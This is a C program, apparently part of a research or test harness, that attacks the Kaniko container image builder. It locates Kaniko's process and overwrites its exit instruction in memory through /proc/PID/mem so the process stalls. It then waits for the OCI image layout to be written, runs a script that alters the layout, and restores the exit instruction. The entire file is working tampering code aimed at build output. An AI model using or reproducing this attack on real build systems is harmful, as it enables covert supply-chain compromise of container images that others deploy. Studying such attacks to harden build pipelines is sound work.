/* layout KIND [ARGUMENT...]: a process that stays until Kaniko has written the image's layout, holds Kaniko, has
 * layout_change.sh make another layout of it, tells the witness "changed", and lets Kaniko go on. */
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <signal.h>
#include <stdbool.h>
#include <sys/wait.h>
#include <time.h>

#define PIECE 65536
#define SETTLE_US 50000
#define PLACES_MAX 64
#define PATIENCE_S 30

static size_t read_text(const char *path, char text[PIECE])
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? 0 : read(fd, text, PIECE - 1);

    close(fd);
    text[got < 0 ? 0 : got] = '\0';
    return got < 0 ? 0 : (size_t)got;
}

/* Its process, and where its command line says that the layout will be. */
static pid_t find_kaniko(char layout[500])
{
    static const char option[] = "--oci-layout-path=";
    static char text[PIECE];
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    pid_t found = 0;

    while (proc && !found && (entry = readdir(proc))) {
        char path[300], *at;
        size_t len;

        if (!isdigit((unsigned char)*entry->d_name))
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        len = read_text(path, text);
        at = memmem(text, len, option, sizeof option - 1);
        if (!at)
            continue;
        snprintf(layout, 500, "%s", at + sizeof option - 1);
        found = (pid_t)atoi(entry->d_name);
    }
    if (proc)
        closedir(proc);
    return found;
}

/* ---- Kaniko is held where it would end ---- */

/* Root may write to the memory of root's processes, program text included: the instruction that ends Kaniko becomes one
 * that jumps to itself. */
#ifdef __aarch64__
static const unsigned char ending[] = {0xc8, 0x0b, 0x80, 0xd2}, waiting[] = {0x00, 0x00, 0x00, 0x14}; /* mov x8, 94 */
#else
static const unsigned char ending[] = {0xb8, 0xe7, 0x00, 0x00, 0x00, 0x0f, 0x05}, waiting[] = {0xeb, 0xfe};
#endif

struct hold {
    int memory;
    off_t places[PLACES_MAX];
    size_t len;
};

static void find_endings(struct hold *hold, off_t from, off_t to)
{
    static char data[PIECE];
    const char *at;

    for (; from < to; from += PIECE - (off_t)sizeof ending) {
        ssize_t got = pread(hold->memory, data, (size_t)(to - from < PIECE ? to - from : PIECE), from);

        for (at = data; got > 0 && (at = memmem(at, (size_t)(data + got - at), ending, sizeof ending)); at++)
            if (hold->len < PLACES_MAX && (hold->len == 0 || hold->places[hold->len - 1] != from + (at - data)))
                hold->places[hold->len++] = from + (at - data);
    }
}

static void write_all(const struct hold *hold, const unsigned char *code, size_t len)
{
    size_t i;

    for (i = 0; i < hold->len; i++)
        if (pwrite(hold->memory, code, len, hold->places[i]) != (ssize_t)len)
            perror("memory of Kaniko");
}

static bool hold_at_end(struct hold *hold, pid_t kaniko)
{
    char path[64], line[512];
    unsigned long from, to;
    FILE *maps;

    snprintf(path, sizeof path, "/proc/%d/mem", (int)kaniko);
    hold->memory = open(path, O_RDWR | O_CLOEXEC);
    snprintf(path, sizeof path, "/proc/%d/maps", (int)kaniko);
    maps = fopen(path, "re");
    while (maps && hold->memory >= 0 && fgets(line, sizeof line, maps))
        if (strstr(line, " r-xp ") && strstr(line, "executor") && sscanf(line, "%lx-%lx", &from, &to) == 2)
            find_endings(hold, (off_t)from, (off_t)to);
    if (maps)
        fclose(maps);
    write_all(hold, waiting, sizeof waiting);
    return hold->len > 0;
}

static bool await_layout(const char *layout)
{
    char path[600], text[PIECE];
    time_t end = time(NULL) + PATIENCE_S;

    snprintf(path, sizeof path, "%s/index.json", layout);
    while (time(NULL) < end) {
        if (read_text(path, text) && strstr(text, "sha256:"))
            return usleep(SETTLE_US) == 0;
        usleep(1000);
    }
    return false;
}

static void change(const char *layout, int argc, char **argv)
{
    char *command[16] = {"sh", "/attack/layout_change.sh"};
    pid_t child;
    int i;

    command[2] = (char *)layout;
    for (i = 1; i < argc && i < 12; i++)
        command[2 + i] = argv[i];
    child = fork();
    if (child == 0) {
        execv("/bin/sh", command);
        _exit(127);
    }
    waitpid(child, NULL, 0);
}

int main(int argc, char **argv)
{
    char layout[500];
    pid_t kaniko = find_kaniko(layout);
    static struct hold hold;

    if (argc < 2 || !kaniko || !hold_at_end(&hold, kaniko))
        return 1;
    if (fork() != 0)
        return 0;
    setsid();
    for (int fd = 0; fd < 3; fd++)
        close(fd);
    open("/dev/null", O_RDONLY);
    open("/var/tmp/witness/changes", O_WRONLY | O_CREAT | O_APPEND, 0666);
    dup(1);
    if (await_layout(layout)) {
        change(layout, argc, argv);
        tell("changed\n", 8);
    }
    write_all(&hold, ending, sizeof waiting);
    return 0;
}
